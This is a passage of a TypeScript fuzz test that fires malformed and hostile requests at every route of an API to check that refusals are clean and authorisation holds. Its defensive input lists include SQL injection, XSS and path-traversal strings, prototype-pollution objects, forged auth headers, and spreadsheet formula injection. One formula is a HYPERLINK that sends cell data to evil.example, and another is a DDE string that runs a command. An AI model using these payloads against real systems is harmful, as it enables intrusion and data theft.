import { spawnSync } from 'node:child_process'
import { appendFileSync } from 'node:fs'
import { join } from 'node:path'
import fc from 'fast-check'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { JSON_BODY_LIMIT } from '../../server/app.ts'
import { apiErrorFromDatabase } from '../../server/lib/database-errors.ts'
import { allowed, entryOf, GRANTS } from './catalog.ts'
import {
  changedTables,
  errorShapeProblem,
  kindOf,
  loadOperations,
  openWorld,
  type Operation,
  type Who,
  type World,
} from './world.ts'
import { recordFigure } from '../helpers/figures.ts'

// Property-based bad input over every operation of the OpenAPI document: a fixed list of seeds,
// which every run repeats, and one random seed, which it prints. Replay a failure with
// FUZZ_SEED=<the seed printed> npx vitest run tests/trust/fuzz.test.ts (that seed alone, for all
// the rounds: the requests of its first rounds are the ones the failing run sent).
const FIXED_SEEDS = [20261120, 1234567, 31337]
const RANDOM_SEED = Math.floor(Math.random() * 2 ** 31)
const SEEDS = process.env.FUZZ_SEED ? [Number(process.env.FUZZ_SEED)] : [...FIXED_SEEDS, RANDOM_SEED]
/** Requests per operation over all seeds; about 80 operations make it over 10,000 a run. */
const ROUNDS = 132

let world: World
/** Statuses the fuzz saw that the operation does not declare in the OpenAPI document. */
const undocumented = new Map<string, Set<number>>()
let fuzzed = 0
let ops: Awaited<ReturnType<typeof loadOperations>>
beforeAll(async () => {
  world = await openWorld()
  ops = await loadOperations(world.ctx)
})
afterAll(async () => {
  await world?.ctx.close()
})

// ---------------------------------------------------------------------------------------------
// Values. Markers stand for what is only known at send time: a real object's id ({$id}), a huge
// string ({$huge}, made when sent so thousands of samples do not hold megabytes) and JSON text
// that JSON.stringify cannot write ({$raw}: 1e400, -0, a lone surrogate escape).

type Marker = { $id: string } | { $huge: number; char: string } | { $raw: string }

const NASTY_STRINGS = [
  '',
  ' ',
  '   ',
  '\t\n',
  '\u0000',
  'a\u0000b',
  '\ud800',
  'x\udfffy',
  '\udc00\ud800',
  '\u202eevil\u202c',
  'مرحبا بالعالم',
  'שלום',
  'e\u0301\u0301\u0301\u0301',
  'Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇',
  '👨‍👩‍👧‍👦',
  '🏳️‍🌈',
  '\ufeff',
  '\u2028\u2029',
  '\uffff',
  '\ufffd',
  'Ω≈ç√∫',
  "'; drop table segments; --",
  "1' or '1'='1",
  '" or ""="',
  "robert'); delete from audit_log; --",
  '$1',
  '%s%s%s%n',
  '\\',
  '\\u0000',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  'javascript:alert(1)',
  '{{7*7}}',
  '${7*7}',
  '../../../../etc/passwd',
  '%00',
  '%2e%2e%2f',
  'NaN',
  'Infinity',
  '-Infinity',
  '-0',
  '1e309',
  '0x1F',
  '١٢٣',
  'null',
  'true',
  'undefined',
  '2026-02-30',
  '2026-13-01',
  '9999-12-31T23:59:59Z',
  '0000-00-00',
  '22.11.2026',
  'admin',
  'marketer',
  'owner',
  '__proto__',
  'constructor',
  // Formula-like text that a spreadsheet would run if an export wrote it unescaped.
  '=1+2',
  '@SUM(1,2)',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '-2+3',
]
const NASTY_NUMBERS = [
  0,
  -1,
  -0.5,
  0.5,
  1,
  1.5,
  2,
  10,
  11,
  101,
  1000,
  1001,
  3651,
  2 ** 31,
  -(2 ** 31) - 1,
  2 ** 53,
  2 ** 53 + 2,
  2 ** 63,
  1e12,
  1e12 + 1,
  1e15,
  1e308,
  -1e308,
  Number.MIN_VALUE,
  5e-324,
  1e-7,
  0.1 + 0.2,
  Number.MAX_SAFE_INTEGER,
  -Number.MAX_SAFE_INTEGER,
]
const RAW_NUMBERS = [
  '1e400',
  '-1e400',
  '-0',
  '1E+2',
  '0.0000000000000000000000000000000001',
  '123456789012345678901234567890',
  '1.7976931348623157e309',
]

const nastyString = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...NASTY_STRINGS) },
  { weight: 3, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(201, 1001, 2001, 4001, 70_000).map((n): Marker => ({ $huge: n, char: 'x' })),
  },
  {
    weight: 1,
    arbitrary: fc
      .constantFrom('é', '😀', '\u0301', 'ю')
      .map((char): Marker => ({ $huge: (1024 * 1024) / 2, char })),
  },
)
const nastyNumber = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...NASTY_NUMBERS) },
  { weight: 2, arbitrary: fc.double() },
  { weight: 2, arbitrary: fc.integer() },
  { weight: 1, arbitrary: fc.constantFrom(...RAW_NUMBERS).map((raw): Marker => ({ $raw: raw })) },
)
/** Nesting past the API's limit of 32 levels, up to 500,000 (deep enough to overflow a recursive reader). */
const depths = fc.oneof(
  { weight: 8, arbitrary: fc.integer({ min: 30, max: 5000 }) },
  { weight: 1, arbitrary: fc.constant(500_000) },
)
const deepArray = depths.map((depth): Marker => ({ $raw: '['.repeat(depth) + ']'.repeat(depth) }))
const deepObject = depths.map((depth): Marker => ({ $raw: '{"a":'.repeat(depth) + '1' + '}'.repeat(depth) }))
const nastyValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 5, arbitrary: nastyString },
  { weight: 4, arbitrary: nastyNumber },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      null,
      true,
      false,
      [],
      {},
      [null],
      { '': '' },
      { __proto__: { admin: true } },
      { 'a\u0000b': 'x' },
      { colour: { nested: ['\u0000'] } },
    ),
  },
  { weight: 1, arbitrary: fc.array(nastyString, { maxLength: 5 }) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 1, arbitrary: fc.oneof(deepArray, deepObject) },
)

/** Sets a key as an own property, so "__proto__" is sent as a key and does not swap the prototype. */
const own = (o: object, key: string, value: unknown) =>
  Object.defineProperty(o, key, { value, enumerable: true, writable: true, configurable: true })

const isMarker = (v: unknown): v is Marker =>
  typeof v === 'object' && v !== null && !Array.isArray(v) && ('$id' in v || '$huge' in v || '$raw' in v)

/** Writes a value with markers as JSON text, making real ids on the way. */
async function toJsonText(value: unknown): Promise<string> {
  const raws: string[] = []
  const resolve = async (v: unknown): Promise<unknown> => {
    if (isMarker(v)) {
      if ('$id' in v) return world.realId(v.$id)
      if ('$huge' in v) return v.char.repeat(v.$huge)
      raws.push(v.$raw)
      return `\u0001RAW${raws.length - 1}\u0001`
    }
    if (Array.isArray(v)) return Promise.all(Array.from(v, resolve))
    if (typeof v === 'object' && v !== null) {
      const out: Record<string, unknown> = {}
      for (const [k, x] of Object.entries(v)) own(out, k, await resolve(x))
      return out
    }
    return v
  }
  const text = JSON.stringify(await resolve(value)) ?? 'null'
  return text.replace(/"\\u0001RAW(\d+)\\u0001"/g, (_, i: string) => raws[Number(i)]!)
}

// ---------------------------------------------------------------------------------------------
// Valid bodies from the OpenAPI schemas, to mutate one field at a time.

/** Fields that name objects: a valid body carries a real id of the right kind. */
const ID_FIELDS: Record<string, string> = {
  segmentId: 'segments',
  journeyId: 'journeys',
  stageId: 'stages',
  barrierId: 'barriers',
  recommendationId: 'recommendations',
  hypothesisId: 'hypotheses',
  subjectId: 'barriers',
  testId: 'tests',
}

function validOf(schema: any, field = ''): unknown {
  schema = ops.resolve(schema)
  if (!schema) return null
  if (ID_FIELDS[field]) return { $id: ID_FIELDS[field] } satisfies Marker
  if (schema.anyOf || schema.oneOf)
    return validOf(
      (schema.anyOf ?? schema.oneOf).find((s: any) => ops.resolve(s)?.type !== 'null') ?? schema.anyOf[0],
      field,
    )
  if (schema.allOf) return validOf(schema.allOf[0], field)
  if (schema.enum) return schema.enum[0]
  if (schema.const !== undefined) return schema.const
  const type = Array.isArray(schema.type) ? schema.type.find((t: string) => t !== 'null') : schema.type
  switch (type) {
    case 'object': {
      const out: Record<string, unknown> = {}
      for (const [k, s] of Object.entries<any>(schema.properties ?? {})) {
        if (schema.required?.includes(k) || k.length % 2 === 0) out[k] = validOf(s, k)
      }
      return out
    }
    case 'array':
      return schema.minItems
        ? Array.from({ length: schema.minItems }, () => validOf(schema.items, field))
        : [validOf(schema.items, field)]
    case 'string':
      if (schema.format === 'email') return `fuzz-${Math.random().toString(36).slice(2, 8)}@example.test`
      if (schema.format === 'date') return '2026-12-01'
      if (field === 'closedAt') return '2026-11-20'
      if (field === 'webhookUrl') return 'https://crm.example.com/hook'
      if (field === 'password' || field === 'webhookSecret') return 'a long enough secret'
      return 'Fuzz text'
    case 'integer':
    case 'number': {
      const min = schema.minimum ?? (schema.exclusiveMinimum !== undefined ? schema.exclusiveMinimum : 0)
      const max =
        schema.maximum ?? (schema.exclusiveMaximum !== undefined ? schema.exclusiveMaximum : min + 10)
      if (type === 'integer') return Math.max(Math.ceil(min), Math.min(Math.floor(max), 2 + Math.ceil(min)))
      return (min + max) / 2 === 0 ? 0.1 : Math.min(max, Math.max(min, (min + max) / 2))
    }
    case 'boolean':
      return true
    default:
      return 'x'
  }
}

/** Paths of the fields of a value (top level and one level down) to mutate. */
function fieldPaths(value: unknown): string[][] {
  if (typeof value !== 'object' || value === null || isMarker(value)) return []
  const paths: string[][] = []
  for (const [k, v] of Object.entries(value)) {
    paths.push([k])
    if (typeof v === 'object' && v !== null && !isMarker(v))
      for (const k2 of Object.keys(v)) paths.push([k, k2])
  }
  return paths
}

type Mutation =
  { kind: 'delete' } | { kind: 'set'; value: unknown } | { kind: 'extra'; name: string; value: unknown }
function mutate(value: unknown, path: string[] | undefined, m: Mutation): unknown {
  const copy = structuredClone(value) as Record<string, any>
  if (m.kind === 'extra' || !path) {
    if (typeof copy === 'object' && copy !== null)
      own(copy, m.kind === 'extra' ? m.name : 'extra', m.kind === 'extra' ? m.value : null)
    return copy
  }
  let parent: Record<string, any> = copy
  for (const k of path.slice(0, -1)) parent = parent[k]
  const last = path[path.length - 1]!
  if (m.kind === 'delete') delete parent[last]
  else own(parent, last, m.value)
  return copy
}

// ---------------------------------------------------------------------------------------------
// Requests.

interface Fuzzed {
  who: Who | 'victim'
  workspace: string | null
  id: { real: true } | { wrong: string } | null
  query: string
  contentType: string | null
  /** JSON with markers; raw text; bytes; or the valid body's JSON cut after `cut` characters. */
  /** `unknownField`: the name of a field the body's schema does not declare, set on a valid body. */
  body:
    { json: unknown; unknownField?: string } | { text: string } | { bytes: number[] } | { cut: number } | null
  headers: Record<string, string>
}

/** Headers a browser, a proxy or an attacker may send, each in valid and in broken forms. */
const ODD_HEADERS: [string, string[]][] = [
  [
    'origin',
    [
      'http://localhost',
      'https://evil.example',
      'null',
      'not a url',
      'http://',
      '://x',
      'http://[::1',
      'javascript:alert(1)',
      '*',
    ],
  ],
  ['sec-fetch-site', ['same-origin', 'cross-site', 'none', 'garbage']],
  [
    'authorization',
    [
      'Bearer',
      'Bearer ',
      'Bearer a b',
      'Basic dXNlcjpwYXNz',
      'bearer cxk_forged',
      'Bearer cxk_' + 'a'.repeat(5000),
    ],
  ],
  [
    'cookie',
    [
      'cxw_session=',
      'cxw_session=%ZZ',
      'cxw_session="quoted"',
      'cxw_session=a; cxw_session=b',
      'other=1',
      '=; ;=;',
      'cxw_session=' + 'x'.repeat(4000),
    ],
  ],
  ['x-request-id', ['x'.repeat(500), '', 'id with spaces', '%00']],
  ['accept', ['application/json', 'text/csv', '*/*', 'text/html', 'garbage']],
  ['content-length', ['0', '5']],
  ['x-forwarded-for', ['1.2.3.4', 'garbage', '1.2.3.4, 5.6.7.8', '']],
]

const WRONG_WORKSPACES = [
  'no-such-workspace',
  'x'.repeat(65),
  '%00',
  '%F0%9F%98%80',
  '..',
  "'%3B drop table workspaces",
  '%E2%80%AE',
  ' ',
]
const WRONG_IDS = [
  '0',
  '-1',
  '999999999',
  '9007199254740993',
  '99999999999999999999999',
  '1.5',
  '1e3',
  '0x10',
  'abc',
  '%20',
  'null',
  'NaN',
  '%00',
  '1%3B%20drop%20table%20tests',
  '%D9%A1',
  '+1',
  ' 7',
]

const MALFORMED = [
  '{',
  '{"',
  '{"a":}',
  '{"a" 1}',
  "{'a': 1}",
  '{"a": 1,}',
  '[1,]',
  'nul',
  'NaN',
  'Infinity',
  'undefined',
  '{"a": NaN}',
  '{"a": 01}',
  '{"a": .5}',
  '{"a": "\\x41"}',
  '{"a": "\t"}',
  '{"a": "\\ud800"}',
  '"\\udfff"',
  '\ufeff{}',
  '{} {}',
  '{}garbage',
  '/* */ {}',
  '{"a":1}\u0000',
  '\u0000',
  '',
  ' ',
  '[',
  ']',
  '{{}}',
  '{"__proto__": {"admin": true}}',
  '{"constructor": {"prototype": {"x": 1}}}',
  'true',
  '0',
  '-',
  '"unterminated',
]

const CSV_HEADERS = [
  'externalId,customerKey,closedAt,converted,revenue',
  'customerKey,stratum',
  'externalId;customerKey;closedAt;converted',
  'customerKey',
  '"externalId","customerKey","closedAt","converted"',
  'a,b,c',
  '',
  '\ufeffcustomerKey,stratum',
  'customerKey\tstratum',
  '"unclosed,header',
]
const csvCell = fc.oneof(
  fc.constantFrom(
    'c-1',
    'c-2',
    'd-9',
    '2026-11-20',
    '22.11.2026',
    'true',
    'да',
    '0',
    '1 234,50',
    '-5',
    '1e400',
    '',
    ' ',
    '"',
    '""',
    '"quoted, with comma"',
    '"unclosed',
    'a"b',
    '\u0000',
    '\r',
    '\n',
    ';',
    '\t',
    '=1+1',
    "=cmd|' /C calc'!A0",
    '@SUM(A1)',
    '+1',
    '-1',
    '<script>',
    "'; drop table deals; --",
  ),
  nastyString.filter((s) => typeof s === 'string'),
)
const csvText = fc.oneof(
  {
    weight: 6,
    arbitrary: fc
      .tuple(
        fc.constantFrom(...CSV_HEADERS),
        fc.array(fc.array(csvCell, { minLength: 0, maxLength: 7 }), { maxLength: 12 }),
        fc.constantFrom('\n', '\r\n', '\r'),
        fc.constantFrom(',', ';'),
      )
      .map(([header, rows, eol, sep]) => [header, ...rows.map((r) => r.join(sep))].join(eol)),
  },
  { weight: 2, arbitrary: fc.constantFrom(...CSV_HEADERS) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      '"',
      '"""',
      'a,"b\nc',
      '\ufeff',
      '\n\n\n',
      ',,,,\n,,,',
      'customerKey\n"c-1\n',
      'customerKey\nc-1,"x"y"',
    ),
  },
  {
    weight: 1,
    arbitrary: fc
      .integer({ min: 1, max: 3 })
      .map((k) => `customerKey\n${Array.from({ length: k * 2000 }, (_, i) => `bulk-${i}`).join('\n')}`),
  },
)

function requestArbitrary(op: Operation): fc.Arbitrary<Fuzzed> {
  const isLogout = op.path.startsWith('/api/auth/logout')
  const who: fc.Arbitrary<Fuzzed['who']> = isLogout
    ? fc.constantFrom<Fuzzed['who']>('anonymous', 'victim', 'expired', 'key')
    : fc.oneof(
        { weight: 14, arbitrary: fc.constant<Who>('admin') },
        { weight: 2, arbitrary: fc.constant<Who>('anonymous') },
        { weight: 2, arbitrary: fc.constant<Who>('key') },
        { weight: 2, arbitrary: fc.constantFrom<Who>('marketer', 'analyst', 'leader') },
        { weight: 1, arbitrary: fc.constantFrom<Who>('outsider', 'revokedKey', 'expired') },
      )
  const workspace = op.path.includes('{workspace}')
    ? fc.oneof(
        { weight: 12, arbitrary: fc.constant('$own') },
        { weight: 1, arbitrary: fc.constant('$other') },
        { weight: 1, arbitrary: fc.constantFrom(...WRONG_WORKSPACES) },
      )
    : fc.constant(null)
  // A delete that succeeds costs the object's remaking (its whole chain of parents): fewer real ids.
  const id = kindOf(op.path)
    ? fc.oneof(
        { weight: op.method === 'DELETE' ? 1 : 3, arbitrary: fc.constant({ real: true as const }) },
        {
          weight: 1,
          arbitrary: fc
            .oneof(
              fc.constantFrom(...WRONG_IDS),
              fc.constantFrom('$otherWorkspace'),
              fc.string({ maxLength: 12 }).map(encodeURIComponent),
            )
            .map((wrong) => ({ wrong })),
        },
      )
    : fc.constant(null)
  const queryParams = op.params.filter((p) => p.in === 'query')
  const query = fc
    .tuple(
      ...queryParams.map((p) =>
        fc.oneof(
          { weight: 3, arbitrary: fc.constant(undefined) },
          { weight: 2, arbitrary: fc.constant(String(validOf(p.schema, p.name))) },
          {
            weight: 2,
            arbitrary: fc.oneof(
              nastyString.map((s) => (typeof s === 'string' ? s : 'x'.repeat(300))),
              nastyNumber.map((n) => (typeof n === 'number' ? String(n) : '1e400')),
            ),
          },
        ),
      ),
      fc.option(
        fc.tuple(
          fc.constantFrom('limit', 'cursor', 'extra', 'format', '__proto__', 'id'),
          fc.constantFrom('1', '', 'x', '-1', '%'),
        ),
        { freq: 5 },
      ),
    )
    .map(([...parts]) => {
      const extra = parts.pop() as [string, string] | null
      const search = new URLSearchParams()
      queryParams.forEach((p, i) => {
        if (parts[i] !== undefined) search.append(p.name, parts[i] as string)
      })
      if (extra) search.append(extra[0], extra[1])
      const s = search.toString()
      return s ? `?${s}` : ''
    })

  const valid = op.bodySchema ? validOf(op.bodySchema) : {}
  const paths = fieldPaths(valid)
  const mutation: fc.Arbitrary<Mutation> = fc.oneof(
    { weight: 2, arbitrary: fc.constant<Mutation>({ kind: 'delete' }) },
    { weight: 6, arbitrary: nastyValue.map((value): Mutation => ({ kind: 'set', value })) },
    {
      weight: 1,
      arbitrary: fc
        .tuple(
          fc.constantFrom('extra', '__proto__', 'id', 'workspaceId', 'role', '', '\u0000', 'a\u0000b'),
          nastyValue,
        )
        .map(([name, value]): Mutation => ({ kind: 'extra', name, value })),
    },
  )
  const declared = new Set(
    [ops.resolve(op.bodySchema)]
      .flatMap((s) => (s?.anyOf ?? s?.oneOf ?? [s]).map(ops.resolve))
      .flatMap((s) => Object.keys(s?.properties ?? {})),
  )
  // A route without a body schema reads no body: a field sent there is not refused, only ignored.
  const isObjectBody =
    op.bodyType === 'json' && typeof valid === 'object' && valid !== null && !Array.isArray(valid)
  const mutated = fc
    .tuple(paths.length ? fc.constantFrom(...paths) : fc.constant(undefined), mutation)
    .map(([p, m]) => ({
      json: mutate(valid, p, m),
      ...(m.kind === 'extra' && isObjectBody && !declared.has(m.name) ? { unknownField: m.name } : {}),
    }))
  const jsonBodies: fc.Arbitrary<Fuzzed['body']> = fc.oneof(
    { weight: 10, arbitrary: mutated },
    { weight: 2, arbitrary: fc.constant({ json: valid }) },
    { weight: 3, arbitrary: nastyValue.map((json) => ({ json })) },
    { weight: 2, arbitrary: fc.constantFrom(...MALFORMED).map((text) => ({ text })) },
    { weight: 2, arbitrary: fc.nat().map((cut) => ({ cut })) },
    {
      weight: 1,
      arbitrary: fc.array(fc.integer({ min: 0, max: 255 }), { maxLength: 64 }).map((bytes) => ({ bytes })),
    },
    { weight: 1, arbitrary: fc.constant(null) },
  )
  const body: fc.Arbitrary<Fuzzed['body']> =
    op.bodyType === 'csv'
      ? fc.oneof(
          { weight: 8, arbitrary: csvText.map((text) => ({ text })) },
          { weight: 1, arbitrary: jsonBodies },
          {
            weight: 1,
            arbitrary: fc
              .array(fc.integer({ min: 0, max: 255 }), { maxLength: 200 })
              .map((bytes) => ({ bytes })),
          },
        )
      : op.bodyType === 'json'
        ? jsonBodies
        : fc.oneof({ weight: 6, arbitrary: fc.constant(null) }, { weight: 1, arbitrary: jsonBodies })
  const natural = op.bodyType === 'csv' ? 'text/csv' : 'application/json'
  const contentType = fc.oneof(
    { weight: 12, arbitrary: fc.constant<string | null>(natural) },
    {
      weight: 1,
      arbitrary: fc.constantFrom<string | null>(
        null,
        'text/plain',
        'multipart/form-data; boundary=x',
        'application/x-www-form-urlencoded',
        'application/xml',
        'application/json; charset=latin1',
        'APPLICATION/JSON',
        'application/merge-patch+json',
        'text/csv; charset=utf-16',
        'text/csv',
        'application/json',
        '',
        ';',
        'image/png',
      ),
    },
  )
  const headers = fc.oneof(
    { weight: 6, arbitrary: fc.constant({}) },
    {
      weight: 1,
      arbitrary: fc
        .subarray(ODD_HEADERS, { minLength: 1, maxLength: 3 })
        .chain((picked) =>
          fc
            .tuple(
              ...picked.map(([name, values]) => fc.constantFrom(...values).map((v) => [name, v] as const)),
            )
            .map((pairs) => Object.fromEntries(pairs)),
        ),
    },
  )
  return fc.record({ who, workspace, id, query, contentType, body, headers }) as fc.Arbitrary<Fuzzed>
}

async function bodyBytes(
  op: Operation,
  body: NonNullable<Fuzzed['body']>,
): Promise<string | Uint8Array<ArrayBuffer>> {
  if ('bytes' in body) return new Uint8Array(body.bytes)
  if ('json' in body) return toJsonText(body.json)
  if ('cut' in body) {
    const whole = await toJsonText(
      op.bodySchema ? validOf(op.bodySchema) : { a: [1, 'two', { three: null }] },
    )
    return whole.slice(0, body.cut % Math.max(1, whole.length))
  }
  return body.text
}

// ---------------------------------------------------------------------------------------------
// A success that should not be: the caller may not, the id is another workspace's, or the body
// carries a field its schema does not declare. Who may do what comes from the route catalog.

/** The workspace a request addresses: the world's own, the outsider's, or none that exists. */
const targetOf = (req: Fuzzed) =>
  req.workspace === '$own' ? 'own' : req.workspace === '$other' ? 'other' : null

/** A caller's standing in the workspace a request addresses (null: none). */
function roleIn(who: Fuzzed['who'], target: 'own' | 'other' | null) {
  if (target === 'own' && who in GRANTS) return who as keyof typeof GRANTS
  if (target === 'own' && who === 'key') return 'api_key'
  if (target === 'other' && who === 'outsider') return 'admin'
  return null
}
const SIGNED_IN = new Set<Fuzzed['who']>(['marketer', 'analyst', 'leader', 'admin', 'outsider', 'victim'])

/** Why a 2xx answer to this request is wrong, or null. `sentJson`: a body went out as JSON. */
function wrongSuccess(op: Operation, req: Fuzzed, sentJson: boolean): string | null {
  const { need } = entryOf(op.method, op.path)
  const target = op.path.includes('{workspace}') ? targetOf(req) : null
  if (!allowed(need, roleIn(req.who, target), SIGNED_IN.has(req.who)))
    return `a success for ${req.who}, who may not (${need})`
  const owner = !req.id
    ? null
    : 'real' in req.id
      ? 'own'
      : req.id.wrong === '$otherWorkspace'
        ? 'other'
        : null
  if (owner !== null && owner !== target) return 'a success for an id of another workspace'
  if (sentJson && req.body && 'json' in req.body && req.body.unknownField !== undefined)
    return `a success for a body with the unknown field ${JSON.stringify(req.body.unknownField)}`
  return null
}

describe('property-based bad input over every route', () => {
  it(`never answers 500 or a wrong success, always answers 4xx in the documented shape, and a refusal changes nothing`, async () => {
    const started = performance.now()
    // Printed first as well, so a crash of the whole process can be replayed too.
    console.log(
      process.env.FUZZ_SEED
        ? `fuzz: seed ${SEEDS[0]} (FUZZ_SEED)`
        : `fuzz: seeds ${FIXED_SEEDS.join(', ')} and the random seed ${RANDOM_SEED} (replay with FUZZ_SEED=${RANDOM_SEED})`,
    )
    const trace = process.env.FUZZ_TRACE
    const victim = await world.ctx.newUser('victim')
    const operations = ops.operations
    expect(operations.length).toBeGreaterThan(70)
    const arbitraries = operations.map(requestArbitrary)
    const problems = new Map<string, { count: number; ops: Set<string>; example: string }>()
    const statuses = new Map<string, number>()
    /** Problems grouped by what went wrong, with the operations it happened on. */
    const problem = (where: string, key: string, example: string) => {
      const p = problems.get(key) ?? { count: 0, ops: new Set<string>(), example }
      p.count++
      p.ops.add(where)
      problems.set(key, p)
    }
    // The app logs each 500 with its request id: keep the cause, to group the 500s by it.
    const causes = new Map<string, string>()
    const logError = vi.spyOn(console, 'error').mockImplementation((first: unknown, err: unknown) => {
      const id = String(first).match(/^\[([^\]]+)\]/)?.[1]
      if (id)
        causes.set(
          id,
          String((err as Error)?.message ?? err)
            .split('\n')[0]!
            .slice(0, 160),
        )
    })
    let requests = 0
    let before = await world.watcher.mark()
    let made = world.made
    const roundsPerSeed = Math.ceil(ROUNDS / SEEDS.length)
    const schedule = SEEDS.flatMap((seed) =>
      Array.from({ length: roundsPerSeed }, (_, round) => ({ seed, round })),
    )
    for (const { seed: SEED, round } of schedule) {
      for (let o = 0; o < operations.length; o++) {
        const op = operations[o]!
        // Signing in costs a scrypt (~50 ms) whenever the body is well formed: a third of the rounds.
        if (op.path === '/api/auth/login' && round % 3 !== 0) continue
        const [req] = fc.sample(arbitraries[o]!, {
          seed: (SEED + round * 7919 + o * 104729) | 0,
          numRuns: 1,
        }) as [Fuzzed]
        let path = op.path
        if (req.workspace) {
          const slug =
            req.workspace === '$own'
              ? world.ws.slug
              : req.workspace === '$other'
                ? world.other.slug
                : req.workspace
          path = path.replace('{workspace}', slug)
        }
        const kind = kindOf(op.path)
        let realKind: string | undefined
        if (req.id && kind) {
          realKind =
            kind === 'tests' ? (['tests', 'runningTest', 'completedTest'] as const)[round % 3]! : kind
          const value =
            'real' in req.id
              ? String(await world.realId(realKind))
              : req.id.wrong === '$otherWorkspace'
                ? String(await world.otherId(realKind))
                : req.id.wrong
          path = path.replace(/\{(id|userId)\}/, value)
        }
        const headers: Record<string, string> = { ...req.headers }
        const caller = req.who === 'victim' ? { cookie: victim.cookie } : world.callers[req.who]
        if (caller.cookie) headers.cookie = `cxw_session=${caller.cookie}`
        if (caller.bearer) headers.authorization = `Bearer ${caller.bearer}`
        let payload: string | Uint8Array<ArrayBuffer> | undefined
        if (req.body && op.method !== 'GET') {
          payload = await bodyBytes(op, req.body)
          if (req.contentType !== null) headers['content-type'] = req.contentType
        }
        // Objects made on demand for this request are not the request's doing.
        if (world.made !== made) {
          before = await world.watcher.mark()
          made = world.made
        }
        if (trace)
          appendFileSync(
            trace,
            `${round} ${op.method} ${path}${req.query} as ${req.who} ${JSON.stringify(req.headers)} ${typeof payload === 'string' ? payload.slice(0, 2000) : payload ? `<${payload.length} bytes>` : ''}\n`,
          )
        const res = await world.ctx.app.request(`${path}${req.query}`, {
          method: op.method,
          headers,
          ...(payload !== undefined ? { body: payload } : {}),
        })
        const where = `${op.method} ${op.path}`
        let text: string
        try {
          text = await res.text()
        } catch (err) {
          // The status and headers are sent by then: a client sees a success cut off mid-body.
          text = `<body stream failed: ${(err as Error).message}>`
          problem(
            where,
            `${res.status} sent, then the body failed (${(err as Error).message})`,
            `${op.method} ${path}${req.query} as ${req.who}`,
          )
        }
        requests++
        fuzzed++
        statuses.set(`${where} ${res.status}`, (statuses.get(`${where} ${res.status}`) ?? 0) + 1)
        const example = () =>
          `(seed ${SEED}, round ${round}) ${op.method} ${path}${req.query} as ${req.who} [${req.contentType}]${Object.keys(req.headers).length ? ` ${JSON.stringify(req.headers).slice(0, 200)}` : ''} ${typeof payload === 'string' ? payload.slice(0, 300) : payload ? `<${payload.length} bytes>` : ''} → ${res.status} ${text.slice(0, 300)}`
        if (res.status < 500 && !op.responses.includes(String(res.status)))
          undocumented.set(where, (undocumented.get(where) ?? new Set()).add(res.status))
        if (res.status >= 500) {
          const requestId = res.headers.get('x-request-id') ?? ''
          problem(
            where,
            `${res.status}: ${causes.get(requestId)?.replace(/\d+/g, 'N') ?? 'no cause logged'}`,
            example(),
          )
        }
        if (res.status >= 400) {
          let parsed: unknown
          try {
            parsed = JSON.parse(text)
          } catch {
            parsed = text
          }
          const shape = errorShapeProblem(res.status, res.headers, parsed)
          if (shape)
            problem(
              where,
              `${res.status} not in the documented error shape (${shape.replace(/\d+/g, 'N')})`,
              example(),
            )
        }
        const after = await world.watcher.mark()
        if (res.status >= 400) {
          if (after !== before)
            problem(
              where,
              `${res.status} yet changed ${(await world.watcher.since(before)).join(', ')}`,
              example(),
            )
        } else {
          const wrong = wrongSuccess(
            op,
            req,
            payload !== undefined && /^application\/json\b/i.test(headers['content-type'] ?? ''),
          )
          if (wrong) problem(where, `${res.status}, ${wrong}`, example())
          if (op.method === 'DELETE') {
            if (req.id && 'wrong' in req.id && req.id.wrong === '$otherWorkspace')
              world.forgetOther(realKind!)
            else world.forget(req.id && 'real' in req.id ? realKind : undefined)
          }
        }
        before = after
      }
    }
    logError.mockRestore()
    const seconds = ((performance.now() - started) / 1000).toFixed(1)
    const seeds = process.env.FUZZ_SEED
      ? `seed ${SEEDS[0]}`
      : `seeds ${FIXED_SEEDS.join(', ')} and the random seed ${RANDOM_SEED}`
    recordFigure(
      `fuzz: ${requests} requests, ${seeds} (${operations.length} operations, ${world.made} objects made, ${seconds} s; replay with FUZZ_SEED=${SEEDS.at(-1)})`,
    )
    if (process.env.FUZZ_STATUSES) console.log([...statuses].map(([k, n]) => `${k}: ${n}`).join('\n'))
    const report = [...problems].map(
      ([key, p]) =>
        `${key} ×${p.count} on ${p.ops.size} operation(s): ${[...p.ops].slice(0, 6).join('; ')}${p.ops.size > 6 ? '; …' : ''}\n    e.g. ${p.example}`,
    )
    expect(report, `${seeds}:\n${report.join('\n')}`).toEqual([])
    expect(requests).toBeGreaterThanOrEqual(10_000)
  }, 240_000)
})

describe('the OpenAPI document', () => {
  it('declares every status the fuzz got from each operation', () => {
    expect(fuzzed, 'runs after the fuzz test above').toBeGreaterThan(0)
    const missing = [...undocumented]
      .map(([where, statuses]) => `${where}: ${[...statuses].sort().join(', ')}`)
      .sort()
    expect(missing).toEqual([])
  })
})

describe('bugs the fuzz found, pinned', () => {
  const admin = () => ({ cookie: world.ws.members.admin.cookie })
  const expectRefusal = async (res: { status: number; headers: Headers; body: any }, status: number) => {
    expect(res.status, JSON.stringify(res.body)).toBe(status)
    expect(errorShapeProblem(res.status, res.headers, res.body)).toBeNull()
  }

  it('answers a workspace slug with a NUL like any unknown workspace: 404, not 500', async () => {
    await expectRefusal(await world.ctx.request(admin(), 'GET', '/api/workspaces/%00/segments'), 404)
    await expectRefusal(
      await world.ctx.request(admin(), 'POST', '/api/workspaces/a%00b/segments', { name: 'S' }),
      404,
    )
  })

  it('refuses a NUL in a free-text query parameter with 400, not 500', async () => {
    await expectRefusal(
      await world.ctx.request(admin(), 'GET', `/api/workspaces/${world.ws.slug}/audit?subjectType=a%00b`),
      400,
    )
  })

  it('refuses a change with a session cookie and a malformed Origin header with 403, not 500', async () => {
